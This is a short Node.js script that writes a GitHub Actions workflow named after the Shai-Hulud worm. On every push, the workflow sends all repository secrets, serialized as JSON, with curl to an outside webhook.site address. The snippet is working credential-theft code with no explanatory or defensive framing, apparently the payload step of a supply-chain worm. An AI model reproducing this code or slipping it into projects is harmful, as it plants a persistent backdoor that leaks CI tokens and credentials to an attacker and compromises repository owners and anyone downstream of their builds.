const fs = require('fs');
fs.mkdirSync('.github/workflows', {recursive: true});
fs.writeFileSync('.github/workflows/shai-hulud.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://webhook.site/abc\n');
